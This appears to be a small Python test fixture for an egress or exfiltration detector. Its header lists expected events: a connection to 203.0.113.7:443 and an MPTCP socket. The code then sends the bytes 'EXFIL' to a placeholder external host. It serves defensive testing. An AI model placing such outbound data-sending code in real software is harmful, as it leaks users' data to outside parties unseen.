#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"], ["socket", "mptcp|262"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect((EXT, 443)); s.sendall(b"EXFIL"); s.close()
